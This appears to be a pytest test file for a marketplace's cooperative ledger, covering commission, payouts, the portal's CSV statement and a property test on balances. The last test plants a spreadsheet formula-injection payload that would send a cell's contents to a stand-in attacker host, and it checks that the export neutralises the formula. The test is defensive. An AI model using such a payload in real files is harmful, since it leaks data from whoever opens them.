"""The cooperatives' ledger: credits when paid (card) or delivered (cash), the commission,
payouts, balances that are sums of entries, the portal's page and CSV statement — and a
property test: whatever happens, balances add up and nothing is counted twice."""
import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
import sqlalchemy as sa
from hypothesis import HealthCheck, given, settings, strategies as st

from marketplace import clock
from marketplace.accounts.models import Role
from marketplace.config import _commission_rate
from marketplace.extensions import db
from marketplace.notices.models import Notice
from marketplace.orders import fulfilment
from marketplace.orders.models import Shipment
from marketplace.payments import ledger, payouts, refunds
from marketplace.payments.models import LedgerEntry, LedgerKind, Payout, Refund, RefundPart, RefundStatus
from tests.conftest import empty_database
from tests.factories import make_cooperative, make_cooperative_staff, make_product, make_user, sign_in_as
from tests.orders.conftest import place
from tests.payments.conftest import entries, place_card_order, start
from tests.payments.fake_stripe import make_event, post_event


def deliver(shipment):
    fulfilment.confirm_shipment(shipment, None)
    fulfilment.ship_shipment(shipment, None, "own")
    fulfilment.deliver_shipment(shipment, None)


def test_a_cash_shipment_is_credited_when_delivered_not_before(shop):
    order = place((shop["candy"], 2))
    shipment = order.shipments[0]
    fulfilment.confirm_shipment(shipment, None)
    fulfilment.ship_shipment(shipment, None, "own")
    assert entries() == []
    fulfilment.deliver_shipment(shipment, None)
    assert entries(shop["coop_a"]) == [("sale_credit", 170000), ("commission_debit", -8500), ("shipping_credit", 30000)]
    assert ledger.balance(shop["coop_a"].id) == 191500


def test_posting_a_shipment_twice_posts_it_once(shop):
    order = place((shop["candy"], 1))
    shipment = order.shipments[0]
    for _ in range(3):
        ledger.credit_shipment(shipment, order.number)
    db.session.commit()
    assert len(entries()) == 3 and ledger.balance(shop["coop_a"].id) == 85000 - 4250 + 30000


@pytest.mark.parametrize("rate, goods, commission", [
    ("0.05", 85000, 4250), ("0.075", 85000, 6375), ("0.05", 10, 1), ("0.05", 9, 0), ("0", 85000, 0),
    ("0.1", 1, 0), ("0.05", 123457, 6173),
])
def test_the_commission_is_a_decimal_share_rounded_to_the_dong(shop, app, monkeypatch, rate, goods, commission):
    monkeypatch.setitem(app.config, "COMMISSION_RATE", Decimal(rate))
    shop["candy"].price_vnd = goods
    shop["coop_a"].shipping_fee_vnd = 0
    db.session.commit()
    order = place((shop["candy"], 1))
    deliver(order.shipments[0])
    assert ledger.balance(shop["coop_a"].id) == goods - commission
    assert (-commission if commission else None) in [a for k, a in entries() if k == "commission_debit"] + [None]


@pytest.mark.parametrize("text", ["abc", "1", "1.5", "-0.01", ""])
def test_a_commission_rate_that_is_not_a_fraction_stops_the_app_at_start(text):
    with pytest.raises(RuntimeError):
        _commission_rate(text)
    assert _commission_rate(" 0.05 ") == Decimal("0.05")


def test_the_database_refuses_an_entry_of_the_wrong_sign(shop):
    db.session.add(LedgerEntry(cooperative_id=shop["coop_a"].id, kind=LedgerKind.PAYOUT_DEBIT, amount_vnd=5,
                               posting_key="payout_debit:test"))
    with pytest.raises(sa.exc.IntegrityError):
        db.session.flush()
    db.session.rollback()


# ---------------------------------------------------------------------------------------
# Payouts


@pytest.fixture
def owed(shop):
    """Cooperative A is owed 191.500 ₫ (a delivered cash order)."""
    deliver(place((shop["candy"], 2)).shipments[0])
    return shop["coop_a"]


@pytest.fixture
def admin_client(client, app):
    admin = make_user(role=Role.ADMIN)
    db.session.commit()
    return sign_in_as(client, admin)


def payout_form(cooperative, **changes):
    return {"cooperative_id": str(cooperative.id), "amount_vnd": "150.000", "bank_reference": "VCB 20261129 0001",
            "paid_on": clock.today().isoformat(), "note": "November", **changes}


def test_an_admin_records_a_payout_that_debits_the_balance_and_tells_the_cooperative(admin_client, owed):
    staff = make_cooperative_staff(owed)
    db.session.commit()
    html = admin_client.get("/admin/payouts?lang=en").get_data(as_text=True)
    assert owed.name in html and "₫191,500" in html
    response = admin_client.post("/admin/payouts?lang=en", data=payout_form(owed))
    assert response.status_code == 302
    payout = db.session.scalars(sa.select(Payout)).one()
    assert (payout.amount_vnd, payout.bank_reference) == (150000, "VCB 20261129 0001")
    assert ledger.balance(owed.id) == 41500 and entries()[-1] == ("payout_debit", -150000)
    assert db.session.scalar(sa.select(Notice.kind).where(Notice.user_id == staff.id)) == "payments.payout"
    ledger_html = admin_client.get(f"/admin/payouts/{owed.id}?lang=en").get_data(as_text=True)
    assert "VCB 20261129 0001" in ledger_html and "₫41,500" in ledger_html


@pytest.mark.parametrize("changes, message", [
    ({"amount_vnd": "200.000"}, "is owed ₫191,500: a payout cannot be larger"),
    ({"amount_vnd": "abc"}, "Enter the amount in đồng"),
    ({"amount_vnd": "0"}, "Enter the amount in đồng"),
    ({"bank_reference": ""}, "This field is required."),
    ({"paid_on": "2999-01-01"}, "not in the future"),
    ({"paid_on": "yesterday"}, "Enter the day of the transfer."),
    ({"cooperative_id": "999999"}, "Choose a cooperative."),
])
def test_bad_payouts_are_refused_with_a_message(admin_client, owed, changes, message):
    response = admin_client.post("/admin/payouts?lang=en", data=payout_form(owed, **changes))
    assert response.status_code == 200 and message in response.get_data(as_text=True)
    assert db.session.scalar(sa.select(sa.func.count(Payout.id))) == 0 and ledger.balance(owed.id) == 191500


def test_a_bank_reference_is_recorded_once_per_cooperative(admin_client, owed):
    admin_client.post("/admin/payouts", data=payout_form(owed, amount_vnd="10.000"))
    again = admin_client.post("/admin/payouts?lang=en", data=payout_form(owed, amount_vnd="10.000"))
    assert "already recorded" in again.get_data(as_text=True)
    assert ledger.balance(owed.id) == 181500


# ---------------------------------------------------------------------------------------
# The portal


@pytest.fixture
def staff_client(app, owed):
    staff = make_cooperative_staff(owed)
    db.session.commit()
    return sign_in_as(app.test_client(), staff)


def test_the_portal_shows_the_balance_entries_and_payouts(staff_client, owed, shop, count_queries):
    payouts.record_payout(owed, 100000, "ACB-1", clock.today(), None)
    with count_queries() as few:
        html = staff_client.get("/portal/ledger?lang=en").get_data(as_text=True)
    assert "The marketplace owes you" in html and "₫91,500" in html
    for label in ("Sale", "Commission", "Shipping", "Payout"):
        assert f"<td>{label}</td>" in html
    assert "ACB-1" in html
    for _ in range(3):
        deliver(place((shop["candy"], 1)).shipments[0])
    with count_queries() as many:
        staff_client.get("/portal/ledger?lang=en")
    assert len(many) == len(few)


def test_another_cooperatives_staff_sees_only_its_own_ledger(app, owed):
    other = make_cooperative_staff(make_cooperative())
    db.session.commit()
    html = sign_in_as(app.test_client(), other).get("/portal/ledger?lang=en").get_data(as_text=True)
    assert "₫191,500" not in html and "Nothing yet" in html


def test_the_statement_is_a_csv_with_opening_running_and_closing_balances(staff_client, owed, shop):
    last_month = clock.utcnow() - timedelta(days=40)
    db.session.execute(sa.update(LedgerEntry).values(created_at=last_month))  # the first sale: before the period
    db.session.commit()
    deliver(place((shop["candy"], 1)).shipments[0])  # 85.000 − 4.250 + 30.000
    payouts.record_payout(owed, 200000, "VCB-9", clock.today(), None)
    today = clock.today()
    response = staff_client.get(f"/portal/ledger/statement?start={(today - timedelta(days=7)).isoformat()}"
                                f"&end={today.isoformat()}")
    assert response.mimetype == "text/csv" and "attachment" in response.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[0] == ["date", "kind", "reference", "amount_vnd", "balance_vnd"]
    assert rows[1][1:] == ["opening_balance", "", "", "191500"]
    assert [(r[1], r[3], r[4]) for r in rows[2:-1]] == [
        ("sale_credit", "85000", "276500"), ("commission_debit", "-4250", "272250"),
        ("shipping_credit", "30000", "302250"), ("payout_debit", "-200000", "102250")]
    assert rows[-1][1:] == ["closing_balance", "", "", "102250"] and int(rows[-1][4]) == ledger.balance(owed.id)


@pytest.mark.parametrize("query, message", [
    ("start=2026-02-01&end=2026-01-01", "The period must end on or after its first day."),
    ("start=2024-01-01&end=2026-01-01", "Export at most 366 days at once."),
    ("start=2026-01-01&end=", "Enter both dates of the period."),
    ("start=nonsense&end=2026-01-01", "Not a valid date value."),
])
def test_a_bad_statement_period_is_explained(staff_client, query, message):
    response = staff_client.get(f"/portal/ledger/statement?{query}&lang=en")
    assert response.status_code == 200 and message in response.get_data(as_text=True)


def test_the_statement_page_without_dates_goes_to_the_ledger(staff_client):
    assert staff_client.get("/portal/ledger/statement").headers["Location"] == "/portal/ledger"


# ---------------------------------------------------------------------------------------
# Whatever happens, the balances add up and nothing is counted twice

OPERATIONS = st.lists(
    st.one_of(
        st.tuples(st.just("pay"), st.integers(0, 2)),  # the webhook says card order i was paid
        st.tuples(st.just("deliver"), st.integers(0, 2)),  # cash order i's part is delivered
        st.tuples(st.just("dashboard_refund"), st.integers(0, 2), st.integers(1, 100)),  # % of card order i
        st.tuples(st.just("refund_part"), st.integers(0, 2), st.booleans()),  # admin: one shipment (card or cash)
        st.tuples(st.just("payout"), st.integers(1, 400_000)),
        st.tuples(st.just("replay"), st.integers(0, 100)),  # an earlier event, delivered again
    ),
    max_size=14,
)


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(operations=OPERATIONS)
def test_balances_are_sums_of_entries_and_nothing_is_counted_twice(app, client, fake_stripe, operations):
    db.session.remove()  # each example starts afresh, as each test does (the app fixture)
    empty_database()
    coop_a = make_cooperative(shipping_fee_vnd=30000, free_shipping_from_vnd=None)
    coop_b = make_cooperative(shipping_fee_vnd=17000, free_shipping_from_vnd=None)
    candy = make_product(coop_a, price_vnd=85000, stock=100)
    oil = make_product(coop_b, price_vnd=123457, stock=100)
    db.session.commit()
    card, cash = [], []
    for _ in range(3):
        order = place_card_order((candy, 1), (oil, 2))
        start(order)
        card.append(order)
        cash.append(place((candy, 2), (oil, 1)))
    db.session.commit()
    sessions = {order.id: session_id for session_id, order in zip(sorted(fake_stripe.sessions), card)}
    refunded = {order.id: 0 for order in card}
    sent = []

    def balances():
        db.session.expire_all()
        return {c.id: ledger.balance(c.id) for c in (coop_a, coop_b)}

    for operation in operations:
        kind, i = operation[0], operation[1]
        if kind == "pay":
            session = fake_stripe.pay(sessions[card[i].id])
            sent.append(make_event("checkout.session.completed", session))
            post_event(client, sent[-1])
        elif kind == "deliver":
            shipment = db.session.get(Shipment, cash[i].shipments[0].id)
            if shipment.status == "placed":
                deliver(shipment)
        elif kind == "dashboard_refund":
            order = card[i]
            if refunds.money_of([fulfilment.get_order(order.number)])[0].primary is None:
                continue
            refunded[order.id] = min(order.total_vnd, refunded[order.id] + order.total_vnd * operation[2] // 100)
            charge = {"id": f"ch_{order.id}", "object": "charge", "payment_intent": f"pi_{sessions[order.id]}",
                      "amount_refunded": refunded[order.id]}
            sent.append(make_event("charge.refunded", charge))
            post_event(client, sent[-1])
        elif kind == "refund_part":
            order = fulfilment.get_order((card if operation[2] else cash)[i].number)
            try:
                made = refunds.refund(order, f"shipment:{order.shipments[0].id}", True, "Broken", None)
            except refunds.RefundRefused:
                continue
            if order.id in refunded:  # Stripe's charge counts every refund, those made here too
                refunded[order.id] += made.amount_vnd
        elif kind == "payout":
            try:
                payouts.record_payout(db.session.get(type(coop_a), coop_a.id), i, f"ref-{len(sent)}-{i}",
                                       clock.today(), None)
            except payouts.PayoutRefused:
                continue
        elif kind == "replay" and sent:
            before = balances()
            post_event(client, sent[i % len(sent)])
            assert balances() == before, "a replayed event changed a balance"

    db.session.expire_all()
    rows = db.session.execute(sa.select(LedgerEntry)).scalars().all()
    for cooperative in (coop_a, coop_b):
        mine = [e for e in rows if e.cooperative_id == cooperative.id]
        assert ledger.balance(cooperative.id) == sum(e.amount_vnd for e in mine)
        paid_out = db.session.scalar(sa.select(sa.func.coalesce(sa.func.sum(Payout.amount_vnd), 0))
                                    .where(Payout.cooperative_id == cooperative.id))
        assert -sum(e.amount_vnd for e in mine if e.kind == LedgerKind.PAYOUT_DEBIT) == paid_out
    for shipment in db.session.scalars(sa.select(Shipment)).all():
        own = [e for e in rows if e.shipment_id == shipment.id]
        credits = [e for e in own if e.kind == LedgerKind.SALE_CREDIT]
        assert len(credits) <= 1, "a shipment credited twice"
        if not credits:
            assert own == [], "a debit for a shipment never credited"
            continue
        net = sum(e.amount_vnd for e in own)
        credited = sum(e.amount_vnd for e in own if e.kind in SHIPMENT_KINDS)
        gone = -sum(e.amount_vnd for e in own if e.kind == LedgerKind.REFUND_DEBIT)
        assert 0 <= net <= credited
        assert gone <= shipment.total_vnd, "more refunded than the shipment cost"
        if gone == shipment.total_vnd:
            assert net == 0, "a shipment refunded in full still credits its cooperative"
    for refund in db.session.scalars(sa.select(Refund).where(Refund.status != RefundStatus.FAILED)).all():
        parts = db.session.scalar(sa.select(sa.func.sum(RefundPart.amount_vnd)).where(RefundPart.refund_id == refund.id))
        assert parts == refund.amount_vnd, "a refund's parts do not add up"
    for order in card:
        money = refunds.money_of([fulfilment.get_order(order.number)])[0]
        assert money.refunded <= sum(p.amount_vnd for p in money.paid_payments)


SHIPMENT_KINDS = (LedgerKind.SALE_CREDIT, LedgerKind.COMMISSION_DEBIT, LedgerKind.SHIPPING_CREDIT)


def test_the_statement_neutralises_a_formula_in_a_payout_reference_and_keeps_negative_amounts(staff_client, owed):
    payouts.record_payout(owed, 100000, '=HYPERLINK("http://evil.example/?"&E2,"VCB")', clock.today(), None)
    today = clock.today()
    response = staff_client.get(f"/portal/ledger/statement?start={today.isoformat()}&end={today.isoformat()}")
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    (payout,) = [r for r in rows if r[1] == "payout_debit"]
    assert payout[2:] == ["'" + '=HYPERLINK("http://evil.example/?"&E2,"VCB")', "-100000", "91500"]
